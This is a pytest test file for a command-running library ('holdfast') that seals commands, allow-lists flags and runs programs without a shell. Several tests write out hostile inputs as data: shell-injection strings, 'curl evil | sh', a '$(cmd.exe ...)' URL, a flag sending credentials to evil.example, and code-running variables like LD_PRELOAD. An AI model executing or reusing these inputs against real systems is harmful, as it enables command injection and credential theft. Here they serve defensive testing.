"""Programs and commands: sealed, bounded, and run without a shell."""

from __future__ import annotations

import asyncio
import logging
import os
import pickle
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from holdfast.errors import ConfigurationError, UnsafeCommand
from holdfast.safe import commands, launching
from holdfast.safe.commands import Command, Flag, Operand, Program, Subcommand
from holdfast.safe.confine import Means

WORDS = Subcommand("", operands=(Operand("word", many=True, optional=True, max_length=10_000),))
ECHO = Program("printf", prefix=("%s\n",), subcommands=[WORDS])


class Directory:
    def __init__(self, path: Path) -> None:
        self.fd = os.open(path, os.O_RDONLY | os.O_DIRECTORY)


@pytest.fixture
def directory(tmp_path: Path) -> Iterator[Directory]:
    opened = Directory(tmp_path)
    yield opened
    os.close(opened.fd)


def python(code: str, **bounds: Any) -> Program:
    return Program(
        "python",
        executable=sys.executable,
        prefix=("-I", "-c", code),
        subcommands=[replace(WORDS, separator=None)],
        reads=(sys.prefix, sys.base_prefix),
        runs=(os.path.realpath(sys.executable),),
        **bounds,
    )


def shell_text_stays_text(text: str) -> None:
    completed = ECHO.argv("", operands=[text]).run_sync()
    assert completed.text() == f"--\n{text}\n"


@pytest.mark.parametrize("text", ["a; id", "a && id", "a | id", "`id`", "$(id)", "a > x", "$HOME", "*", "'; id #"])
def test_cve_2025_53107_shell_characters_are_ordinary_characters(text: str) -> None:
    shell_text_stays_text(text)


def test_cve_2025_15061_a_command_built_from_text_is_one_word() -> None:
    shell_text_stays_text("python; curl evil | sh")


def test_cve_2025_6514_a_url_with_a_command_in_it_is_one_word() -> None:
    shell_text_stays_text("a:$(cmd.exe /c calc.exe)?response_type=code")


def test_cve_2026_85660_an_allowed_program_with_a_substitution_runs_no_second_one(tmp_path: Path) -> None:
    shell_text_stays_text(f"ok $(touch {tmp_path}/canary)")
    assert not (tmp_path / "canary").exists()


def test_cve_2026_61459_a_flag_that_sends_credentials_elsewhere_is_not_declared() -> None:
    program = Program("true", subcommands=[Subcommand("get", flags=(Flag("--namespace", takes="text"),))])
    with pytest.raises(UnsafeCommand):
        program.argv("get", {"--server": "https://evil.example"})
    with pytest.raises(UnsafeCommand):
        program.argv("get", operands=["--server=https://evil.example"])


def test_cve_2026_56274_flags_are_an_allow_list_so_no_spelling_slips_past() -> None:
    program = Program("true", subcommands=[Subcommand("x", flags=(Flag("--safe"),))])
    for name in ("--upload-pack", "--up", "-u", "--safe=1", "--SAFE", "--safe ", "", "--exec"):
        with pytest.raises(UnsafeCommand):
            program.argv("x", {name: True})


@pytest.mark.parametrize("name", ["LD_PRELOAD", "BASH_ENV", "ENV", "NODE_OPTIONS", "PERL5OPT", "PYTHONSTARTUP"])
def test_cve_2026_73601_a_variable_that_runs_code_cannot_even_be_declared(name: str) -> None:
    with pytest.raises(ConfigurationError):
        Program("true", subcommands=[Subcommand("")], env={name: "x"})


def test_cve_2026_73601_nothing_of_the_servers_environment_is_inherited(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LD_PRELOAD_CANARY", "x")
    monkeypatch.setenv("API_TOKEN", "canary")
    program = Program("printenv", subcommands=[replace(WORDS, separator=None)], env={"OWN": "1"})
    names = {line.split("=")[0] for line in program.argv("").run_sync().text().splitlines()}
    assert names == {"PATH", "LANG", "HOME", "XDG_CONFIG_HOME", "HOLDFAST_RUN", "OWN"}


@pytest.mark.parametrize("name", ["sh", "bash", "env", "xargs"])
def test_cve_2026_42271_a_program_whose_words_are_code_cannot_be_declared(name: str) -> None:
    with pytest.raises(ConfigurationError, match="code"):
        Program(name, subcommands=[WORDS])


def test_cve_2026_55580_without_declared_subcommands_there_is_no_program() -> None:
    with pytest.raises(ConfigurationError):
        Program("true", subcommands=[])


def test_a_shell_under_another_name_is_recognised(tmp_path: Path) -> None:
    (tmp_path / "tool").symlink_to("/bin/bash")
    with pytest.raises(ConfigurationError):
        Program("tool", executable=str(tmp_path / "tool"), subcommands=[WORDS])


def test_a_system_that_cannot_hold_programs_in_a_group_runs_none(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(commands, "os", SimpleNamespace(name="nt", path=os.path))
    with pytest.raises(ConfigurationError, match="Linux or macOS"):
        Program("true", subcommands=[WORDS])


def test_what_this_system_lacks_is_said_when_a_program_is_declared(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setattr(launching, "find_tool", lambda name: None)
    with caplog.at_level(logging.WARNING, logger=launching.__name__):
        Program("printf", executable=ECHO.executable, subcommands=[WORDS])
    assert "prlimit is not installed" in caplog.text
    assert "setpriv is not installed" in caplog.text


@pytest.mark.parametrize("found", [Means(0, None), replace(Means(0, None), landlock=1)])
def test_required_needs_all_that_a_kernel_can_have_and_auto_takes_what_there_is(
    found: Means, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(commands, "means", lambda: found)
    with pytest.raises(ConfigurationError, match="seccomp"):
        Program("true", subcommands=[WORDS], confine="required")
    assert Program("true", subcommands=[WORDS]).confinement is not None
    assert Program("true", subcommands=[WORDS], confine="off").confinement is None


def test_what_an_author_does_with_his_lists_afterwards_changes_nothing() -> None:
    lists: dict[str, Any] = {"subcommands": [WORDS], "prefix": ["one"], "hide": ["--not=%s"], "reads": ["/usr"]}
    env = {"OWN": "1"}
    program = Program("true", env=env, **lists)
    before = repr(program)
    lists["subcommands"].append(Subcommand("push"))
    for name in ("prefix", "hide", "reads"):
        lists[name].append("/etc")
    env["OWN"] = "2"
    assert repr(program) == before
    with pytest.raises(UnsafeCommand):
        program.argv("push")
    assert {type(getattr(program, name)) for name in lists} == {tuple}


@pytest.mark.parametrize("bounds", [{"timeout": 0}, {"max_output": 0}, {"memory": -1}, {"files": 0}])
def test_a_bound_of_nothing_is_an_error_at_build(bounds: dict[str, Any]) -> None:
    with pytest.raises(ConfigurationError):
        Program("true", subcommands=[WORDS], **bounds)


def test_a_subcommand_declared_twice_is_an_error_at_build() -> None:
    with pytest.raises(ConfigurationError):
        Program("true", subcommands=[Subcommand("a"), Subcommand("a")])


def test_an_unknown_subcommand_is_refused_and_the_known_ones_are_named() -> None:
    program = Program("true", subcommands=[Subcommand("status")])
    with pytest.raises(UnsafeCommand, match="status") as caught:
        program.argv("push")
    assert caught.value.code == "command.subcommand"


@pytest.mark.parametrize("names, told", [(["status", "", "log"], "status, log"), ([""], "none")])
def test_only_subcommands_that_have_a_name_are_named(names: list[str], told: str) -> None:
    with pytest.raises(UnsafeCommand) as caught:
        Program("true", subcommands=[Subcommand(name) for name in names]).argv("push")
    assert caught.value.message == f"takes only the subcommands: {told}"


def test_a_command_is_sealed() -> None:
    command = ECHO.argv("", operands=["a"])
    with pytest.raises(AttributeError):
        command.argv = ("/bin/sh",)
    with pytest.raises(AttributeError):
        del command.argv
    with pytest.raises(AttributeError):
        command.other = 1  # type: ignore[attr-defined]
    with pytest.raises(UnsafeCommand):
        Command(ECHO, "", {}, ["-x"])
    assert "a" not in repr(command).replace("Command", "").replace("printf", "")


def test_a_command_is_equal_by_its_words_and_is_checked_again_after_a_journey() -> None:
    command = ECHO.argv("", operands=["a"])
    copied = pickle.loads(pickle.dumps(command))  # noqa: S301  # our own bytes
    assert copied == command
    assert hash(copied) == hash(command)
    assert command != ECHO.argv("", operands=["b"])
    assert command != "printf"
    assert copied.run_sync().text() == "--\na\n"
    assert {copied.program: 1} == {ECHO: 1}


async def test_the_working_directory_is_the_open_one_even_after_it_was_swapped(tmp_path: Path) -> None:
    inside, outside = tmp_path / "inside", tmp_path / "outside"
    inside.mkdir()
    outside.mkdir()
    (inside / "mine").touch()
    (outside / "theirs").touch()
    opened = Directory(inside)
    try:
        inside.rename(tmp_path / "moved")
        inside.symlink_to(outside)
        completed = await Program("ls", subcommands=[WORDS]).argv("").run(cwd=opened)
    finally:
        os.close(opened.fd)
    assert completed.text() == "mine\n"


async def test_the_working_directory_is_never_looked_up_by_its_name(tmp_path: Path) -> None:
    (tmp_path / "gone").mkdir()
    opened = Directory(tmp_path / "gone")
    try:
        (tmp_path / "gone").rmdir()
        completed = await Program("ls", subcommands=[WORDS]).argv("").run(cwd=opened)
    finally:
        os.close(opened.fd)
    assert (completed.returncode, completed.stdout) == (0, b"")


async def test_without_a_directory_a_program_does_not_see_the_servers() -> None:
    completed = await python("import os; print(os.getcwd())").argv("").run()
    assert completed.text() == "/\n"


async def test_a_closed_directory_is_a_refusal(tmp_path: Path) -> None:
    opened = Directory(tmp_path)
    os.close(opened.fd)
    with pytest.raises(UnsafeCommand) as caught:
        await ECHO.argv("").run(cwd=opened)
    assert caught.value.code == "command.directory"


async def test_a_timeout_given_for_one_run_can_only_shorten() -> None:
    program = python("import time; time.sleep(60)", timeout=0.3)
    completed = await program.argv("").run(timeout=60)
    assert completed.timed_out
    completed = await replace(program, timeout=60).argv("").run(timeout=0.3)
    assert completed.timed_out


async def test_stdin_is_empty_unless_given() -> None:
    program = python("import sys; print(sys.stdin.read().upper(), end='')")
    assert (await program.argv("").run()).text() == ""
    assert (await program.argv("").run(stdin=b"abc")).text() == "ABC"


def refuse(descriptor: int) -> None:
    raise UnsafeCommand("no", code="command.repository")


async def test_an_inspection_needs_a_directory_and_can_prevent_the_run(directory: Directory) -> None:
    program = replace(ECHO, inspect=refuse)
    with pytest.raises(UnsafeCommand) as caught:
        await program.argv("").run()
    assert caught.value.code == "command.directory"
    with pytest.raises(UnsafeCommand) as caught:
        await program.argv("").run(cwd=directory)
    assert caught.value.code == "command.repository"


async def test_the_synchronous_twin_runs_on_a_thread() -> None:
    command = ECHO.argv("", operands=["a"])
    completed = await asyncio.to_thread(command.run_sync)
    assert completed.text() == "--\na\n"
